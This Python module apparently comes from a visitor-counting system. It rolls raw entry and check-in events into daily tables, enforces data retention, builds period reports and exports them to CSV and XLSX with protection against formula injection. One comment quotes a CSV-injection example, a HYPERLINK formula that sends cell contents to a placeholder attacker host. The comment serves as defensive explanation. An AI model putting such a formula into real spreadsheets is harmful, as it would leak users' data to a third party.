"""Reports, store side: roll raw events up into daily tables, recount dirty days, apply retention, and read
period figures (`report`) for the pages, the JSON API, the exports and the CLI.

How a day gets (re)counted: every stored event has a growing row id. `rollup_pending` remembers the highest
row id it has seen (a watermark) and marks the day of every newer event dirty, so a late or replayed event
re-opens its day even if nobody called `mark_dirty`; schedule edits mark their date dirty. Dirty days before
today are recounted from their raw events, each in its own short transaction. The figures are pure functions of
the day's events (`server.rollup`), so order and duplicates do not matter.
"""

from __future__ import annotations

import csv
import datetime as dt
import json
import logging
import sqlite3
from functools import cache
from pathlib import Path
from typing import IO, Any

from footfall.clock import day_bounds, format_ts, local_day
from footfall.server.rollup import ActivityDay, DayRollup, RoomDay, rollup_day, summarize
from footfall.server.store import SqliteStore, Tx
from footfall.site import SiteConfig

logger = logging.getLogger(__name__)

RAW_RETENTION_DAYS = 400  # [server] raw_retention_days
IDENTIFIED_RETENTION_DAYS = 180  # [server] identified_retention_days
PERIODS = ("daily", "weekly", "monthly", "annual")
# The days a report, the schedule or the API may name. Python's dates end at 9999-12-31, and a page also shows
# the periods before and after its own: a bounded range keeps every date parameter a 400, never an overflow.
FIRST_DAY = dt.date(2000, 1, 1)
LAST_DAY = dt.date(2199, 12, 31)
I18N_DIR = Path(__file__).resolve().parent / "i18n"


def mark_dirty(tx: Tx, day: dt.date | str) -> None:
    """Have `day` recounted by the next `rollup_pending` (ingest: an event for a past day; schedule edits)."""
    text = day if isinstance(day, str) else day.isoformat()
    tx.conn.execute("INSERT OR IGNORE INTO rollup_dirty (day) VALUES (?)", (text,))


def _state(conn: sqlite3.Connection, name: str) -> str | None:
    row = conn.execute("SELECT value FROM report_state WHERE name=?", (name,)).fetchone()
    return row[0] if row else None


def _set_state(conn: sqlite3.Connection, name: str, value: str) -> None:
    conn.execute("INSERT OR REPLACE INTO report_state VALUES (?, ?)", (name, value))


def schedule_between(conn: sqlite3.Connection, start: dt.date, end: dt.date) -> list[dict[str, Any]]:
    rows = conn.execute(
        'SELECT * FROM schedule WHERE date BETWEEN ? AND ? ORDER BY date, start, "end", id',
        (start.isoformat(), end.isoformat()),
    )
    return [dict(r) for r in rows]


def compute_day(site: SiteConfig, conn: sqlite3.Connection, day: dt.date) -> DayRollup:
    """A day's figures from the raw events now stored (also used live for today)."""
    text = day.isoformat()
    cursor = conn.cursor()
    # Plain tuples: a district day is 600,000 rows, and sqlite3.Row would double the cost.
    cursor.row_factory = None
    crossings = cursor.execute(
        "SELECT ts, device, direction, count FROM events WHERE day=? AND type='crossing'", (text,)
    ).fetchall()
    checkins = conn.execute(
        "SELECT purpose, adults, children, activity, member FROM events WHERE day=? AND type='checkin'",
        (text,),
    ).fetchall()
    purged = conn.execute("SELECT identified_purged FROM daily_summary WHERE day=?", (text,)).fetchone()
    return rollup_day(
        site,
        day,
        crossings,
        [dict(r) for r in checkins],
        schedule_between(conn, day, day),
        purged[0] if purged else 0,
        day_corrections(site, conn, day),
    )


def day_corrections(site: SiteConfig, conn: sqlite3.Connection, day: dt.date) -> list[tuple[str, str, int]]:
    """Staff corrections made during a business day, (at, room, value): they keep their place in time."""
    start, end = (format_ts(t) for t in day_bounds(day, site.timezone, site.day_starts))
    rows = conn.execute("SELECT at, room, to_value FROM adjustments WHERE at >= ? AND at < ?", (start, end))
    return [(r[0], r[1], r[2]) for r in rows]


def write_day(conn: sqlite3.Connection, r: DayRollup, purged: int, now: dt.datetime) -> None:
    day = r.day.isoformat()
    for table in ("daily_counts", "daily_activity"):
        conn.execute(f"DELETE FROM {table} WHERE day=?", (day,))
    conn.execute(
        "INSERT OR REPLACE INTO daily_summary VALUES (?,?,?,?,?,?,?,?,?,?,?,?)",
        (
            day, r.visits, json.dumps(r.visits_hourly), r.checkins, r.adults, r.children, r.identified, purged,
            json.dumps(r.by_purpose), json.dumps(r.people_by_purpose), r.events, format_ts(now),
        ),
    )  # fmt: skip
    conn.executemany(
        "INSERT INTO daily_counts VALUES (?,?,?,?,?,?,?,?)",
        [
            (day, x.room, x.entries, x.exits, x.peak, x.peak_at, x.occupied_ms, json.dumps(x.hourly))
            for x in r.rooms.values()
        ],
    )
    conn.executemany(
        "INSERT INTO daily_activity VALUES (?,?,?,?,?,?)",
        [(day, a.item, a.checkins, a.adults, a.children, a.door_entries) for a in r.activities.values()],
    )


def rollup_day_now(site: SiteConfig, store: SqliteStore, day: dt.date, now: dt.datetime) -> DayRollup:
    """Recount one day from its raw events and store it (one transaction)."""
    with store.transaction() as tx:
        row = tx.conn.execute("SELECT identified_purged FROM daily_summary WHERE day=?", (day.isoformat(),))
        found = row.fetchone()
        r = compute_day(site, tx.conn, day)
        write_day(tx.conn, r, found[0] if found else 0, now)
        tx.conn.execute("DELETE FROM rollup_dirty WHERE day=?", (day.isoformat(),))
    return r


def rollup_pending(site: SiteConfig, store: SqliteStore, now: dt.datetime) -> list[dt.date]:
    """Count every finished day that has new events or was marked dirty; then apply retention once a day.

    Cheap when there is nothing to do (two indexed queries): call it at start-up, at the day boundary and as
    often as you like in between. Returns the days recounted.
    """
    today = local_day(now, site.timezone, site.day_starts)
    raw_cutoff = today - dt.timedelta(days=int(site.server.get("raw_retention_days", RAW_RETENTION_DAYS)))
    with store.transaction() as tx:
        mark = int(_state(tx.conn, "rollup_watermark") or 0)
        top = tx.conn.execute("SELECT coalesce(max(pk), 0) FROM events").fetchone()[0]
        if top > mark:
            tx.conn.execute(
                "INSERT OR IGNORE INTO rollup_dirty (day) SELECT DISTINCT day FROM events WHERE pk > ?",
                (mark,),
            )
            _set_state(tx.conn, "rollup_watermark", str(top))
        pending = [
            dt.date.fromisoformat(r[0])
            for r in tx.conn.execute(
                "SELECT day FROM rollup_dirty WHERE day < ? ORDER BY day", (today.isoformat(),)
            )
        ]
    done = []
    for day in pending:
        if day < raw_cutoff and store.count("daily_summary", "day=?", (day.isoformat(),)):
            # Its raw events are (being) purged: keep the counts made when they were all there.
            logger.info("not recounting %s: older than raw_retention_days, daily counts kept", day)
            with store.transaction() as tx:
                tx.conn.execute("DELETE FROM rollup_dirty WHERE day=?", (day.isoformat(),))
            continue
        rollup_day_now(site, store, day, now)
        done.append(day)
    if done:
        logger.info("rolled up %d day(s): %s .. %s", len(done), done[0], done[-1])
    if _state(store.conn, "retention_day") != today.isoformat():
        apply_retention(site, store, now)
    return done


def apply_retention(site: SiteConfig, store: SqliteStore, now: dt.datetime) -> dict[str, int]:
    """Delete raw events older than `raw_retention_days` (their daily counts stay) and remove member codes older
    than `identified_retention_days` (set to NULL; the day's identified count is kept)."""
    today = local_day(now, site.timezone, site.day_starts)
    raw = (
        today - dt.timedelta(days=int(site.server.get("raw_retention_days", RAW_RETENTION_DAYS)))
    ).isoformat()
    ident_days = int(site.server.get("identified_retention_days", IDENTIFIED_RETENTION_DAYS))
    ident = (today - dt.timedelta(days=ident_days)).isoformat()
    rolled = "day IN (SELECT day FROM daily_summary) AND day NOT IN (SELECT day FROM rollup_dirty)"
    with store.transaction() as tx:
        per_day = tx.conn.execute(
            f"SELECT day, count(*) FROM events WHERE day < ? AND member IS NOT NULL AND {rolled} GROUP BY day",
            (ident,),
        ).fetchall()
        tx.conn.executemany(
            "UPDATE daily_summary SET identified_purged = identified_purged + ? WHERE day=?",
            [(n, day) for day, n in per_day],
        )
        members = tx.conn.execute(
            f"UPDATE events SET member=NULL WHERE day < ? AND member IS NOT NULL AND {rolled}", (ident,)
        ).rowcount
        deleted = tx.conn.execute(f"DELETE FROM events WHERE day < ? AND {rolled}", (raw,)).rowcount
        _set_state(tx.conn, "retention_day", today.isoformat())
    if members or deleted:
        logger.info("retention: removed %d member codes, deleted %d raw events", members, deleted)
    return {"members_removed": members, "events_deleted": deleted}


# --- reading ---------------------------------------------------------------------------------------


def load_days(site: SiteConfig, conn: sqlite3.Connection, start: dt.date, end: dt.date, today: dt.date):
    """Stored rollups of [start, end]; today, if inside, is computed live from its raw events."""
    lo, hi = start.isoformat(), end.isoformat()
    days: dict[dt.date, DayRollup] = {}
    for row in conn.execute("SELECT * FROM daily_summary WHERE day BETWEEN ? AND ?", (lo, hi)):
        d = dt.date.fromisoformat(row["day"])
        days[d] = DayRollup(
            day=d,
            visits=row["visits"],
            visits_hourly=json.loads(row["visits_hourly"]),
            checkins=row["checkins"],
            adults=row["adults"],
            children=row["children"],
            identified=row["identified"],
            by_purpose=json.loads(row["by_purpose"]),
            people_by_purpose=json.loads(row["people_by_purpose"]),
            events=row["events"],
        )
    for row in conn.execute("SELECT * FROM daily_counts WHERE day BETWEEN ? AND ?", (lo, hi)):
        r = days.get(dt.date.fromisoformat(row["day"]))
        if r is not None:
            r.rooms[row["room"]] = RoomDay(
                row["room"], row["entries"], row["exits"], row["peak"], row["peak_at"], row["occupied_ms"],
                json.loads(row["hourly"]),
            )  # fmt: skip
    for row in conn.execute("SELECT * FROM daily_activity WHERE day BETWEEN ? AND ?", (lo, hi)):
        r = days.get(dt.date.fromisoformat(row["day"]))
        if r is not None:
            r.activities[row["item"]] = ActivityDay(
                row["item"], row["checkins"], row["adults"], row["children"], row["door_entries"]
            )
    if start <= today <= end:
        days[today] = compute_day(site, conn, today)
    return days


def period_bounds(kind: str, anchor: dt.date) -> tuple[dt.date, dt.date]:
    if kind == "daily":
        return anchor, anchor
    if kind == "weekly":
        monday = anchor - dt.timedelta(days=anchor.weekday())
        return monday, monday + dt.timedelta(days=6)
    if kind == "monthly":
        first = anchor.replace(day=1)
        following = (first + dt.timedelta(days=32)).replace(day=1)
        return first, following - dt.timedelta(days=1)
    if kind == "annual":
        return anchor.replace(month=1, day=1), anchor.replace(month=12, day=31)
    raise ValueError(f"period must be one of {', '.join(PERIODS)}")


def check_day(day: dt.date) -> dt.date:
    """`day` if it lies in FIRST_DAY..LAST_DAY, else ValueError naming the range."""
    if not FIRST_DAY <= day <= LAST_DAY:
        raise ValueError(f"must be from {FIRST_DAY.isoformat()} to {LAST_DAY.isoformat()}")
    return day


def parse_day(text: str) -> dt.date:
    """A 'YYYY-MM-DD' date within FIRST_DAY..LAST_DAY; ValueError otherwise."""
    if len(text) != 10 or not text.isascii():
        raise ValueError("must be YYYY-MM-DD")
    try:
        day = dt.date.fromisoformat(text)
    except ValueError:
        raise ValueError("must be YYYY-MM-DD") from None
    return check_day(day)


def parse_anchor(kind: str, text: str | None, today: dt.date) -> dt.date:
    """'2026-11-28' (daily, weekly), '2026-11' (monthly), '2026' (annual); None = the current one."""
    if not text:
        return today
    anchor = None
    try:
        if not text.isascii():
            pass
        elif kind == "monthly" and len(text) == 7:
            anchor = dt.date.fromisoformat(text + "-01")
        elif kind == "annual" and len(text) == 4 and text.isdigit():
            anchor = dt.date(int(text), 1, 1)
        elif len(text) == 10:
            anchor = dt.date.fromisoformat(text)
    except ValueError:
        pass
    if anchor is None:
        shape = {"monthly": "YYYY-MM", "annual": "YYYY"}.get(kind, "YYYY-MM-DD")
        raise ValueError(f"must be {shape}")
    return check_day(anchor)


def report(
    site: SiteConfig, store: SqliteStore, kind: str, anchor: dt.date, now: dt.datetime, refresh: bool = True
) -> dict[str, Any]:
    """The figures of the daily / weekly / monthly / annual period containing `anchor`."""
    if refresh:
        rollup_pending(site, store, now)
    today = local_day(now, site.timezone, site.day_starts)
    start, end = period_bounds(kind, anchor)
    conn = store.conn
    days = load_days(site, conn, start, end, today)
    out = summarize(site, kind, start, end, days, schedule_between(conn, start, end), today)
    out["period"]["label"] = {
        "daily": start.isoformat(),
        "weekly": f"{start.isocalendar()[0]}-W{start.isocalendar()[1]:02d}",
        "monthly": start.strftime("%Y-%m"),
        "annual": str(start.year),
    }[kind]
    return out


# --- exports ---------------------------------------------------------------------------------------


@cache
def labels(lang: str) -> dict[str, str]:
    with (I18N_DIR / f"{lang if lang in ('zh-CN', 'en') else 'zh-CN'}.json").open(encoding="utf-8") as fh:
        return json.load(fh)


HEADLINE_KEYS = (
    "visits", "days", "days_open", "average_daily_visits", "checkins", "people", "checkin_rate",
    "activities_held", "activity_participants", "classes_held", "class_attendance", "busiest_room", "busiest_hour",
)  # fmt: skip


def tables(rep: dict[str, Any], lang: str = "zh-CN") -> list[tuple[str, list[str], list[list[Any]]]]:
    """The report as tables (name, header, rows): the CSV sections and the XLSX sheets, in one place."""
    t = labels(lang)

    def room_label(room: dict[str, Any]) -> str:
        return (room.get("name_en") or room["name"]) if lang == "en" else room["name"]

    summary = [[t[f"reports.h.{k}"], rep["headline"][k]] for k in HEADLINE_KEYS]
    days = [[d["date"], d["visits"], d["checkins"], d["people"]] for d in rep["days"]]
    rooms = [
        [r["room"], room_label(r), r["capacity"], r["entries"], r["exits"], r["peak"], r["peak_day"],
         r["utilisation"], r["occupied_hours"]]
        for r in rep["rooms"]
    ]  # fmt: skip
    hours = [[h, n] for h, n in enumerate(rep["hours"])]
    c = rep["checkins"]
    purposes = [[t[f"purpose.{p}"], n, c["people_by_purpose"].get(p, 0)] for p, n in c["by_purpose"].items()]
    acts = [
        [a["date"], a["start"], a["end"], t[f"kind.{a['kind']}"], a["title"], a["room"], a["capacity"],
         a["checkins"], a["adults"], a["children"], a["people"], a["door_entries"]]
        for a in rep["activities"]
    ]  # fmt: skip
    col = [t[f"reports.col.{k}"] for k in ("date", "visits", "checkins", "people")]
    return [
        (t["reports.t.summary"], [t["reports.col.metric"], t["reports.col.value"]], summary),
        (t["reports.t.days"], col, days),
        (
            t["reports.t.rooms"],
            [t[f"reports.col.{k}"] for k in ("room", "name", "capacity", "entries", "exits", "peak", "peak_day",
                                               "utilisation", "occupied_hours")],
            rooms,
        ),
        (t["reports.t.hours"], [t["reports.col.hour"], t["reports.col.visits"]], hours),
        (t["reports.t.purposes"], [t[f"reports.col.{k}"] for k in ("purpose", "checkins", "people")], purposes),
        (
            t["reports.t.activities"],
            [t[f"reports.col.{k}"] for k in ("date", "start", "end", "kind", "title", "room", "capacity",
                                               "checkins", "adults", "children", "people", "door_entries")],
            acts,
        ),
    ]  # fmt: skip


# Text a spreadsheet would run as a formula (OWASP "CSV injection"): a schedule title typed by staff such as
# =HYPERLINK("http://evil.example/?x="&A1) must arrive as text. Only text is touched: numbers stay numbers.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def is_formula_like(value: Any) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def csv_cell(value: Any) -> Any:
    """A CSV value: text that starts like a formula gets a leading apostrophe, which spreadsheets show as text."""
    if value is None:
        return ""
    return "'" + value if is_formula_like(value) else value


Table = tuple[str, list[str], list[list[Any]]]


def write_csv(rep: dict[str, Any], out: IO[str], lang: str = "zh-CN") -> None:
    """All tables in one CSV: a title row, the header, the rows, a blank row."""
    write_tables_csv(tables(rep, lang), out)


def write_xlsx(rep: dict[str, Any], out: IO[bytes] | str | Path, lang: str = "zh-CN") -> None:
    """One sheet per table; numbers stay numbers, and no text becomes a formula."""
    write_tables_xlsx(tables(rep, lang), out)


def write_tables_csv(named_tables: list[Table], out: IO[str]) -> None:
    """(name, header, rows) tables in one CSV (also the district's reports)."""
    writer = csv.writer(out)
    for name, header, rows in named_tables:
        writer.writerow([csv_cell(name)])
        writer.writerow([csv_cell(v) for v in header])
        writer.writerows([[csv_cell(v) for v in row] for row in rows])
        writer.writerow([])


def write_tables_xlsx(named_tables: list[Table], out: IO[bytes] | str | Path) -> None:
    """One sheet per (name, header, rows) table (also the district's reports)."""
    from openpyxl import Workbook
    from openpyxl.cell.cell import Cell

    book = Workbook()
    book.remove(book.active)
    for name, header, rows in named_tables:
        sheet = book.create_sheet(name[:31])
        for row in (header, *rows):
            cells = []
            for value in row:
                cell = Cell(sheet, value=value)
                if is_formula_like(value):
                    # openpyxl stores text starting with "=" as a formula: keep it a string, and mark it the way
                    # Excel marks text typed with a leading apostrophe (shown as typed, never evaluated).
                    cell.data_type = "s"
                    cell.quotePrefix = True
                cells.append(cell)
            sheet.append(cells)
    book.save(out)
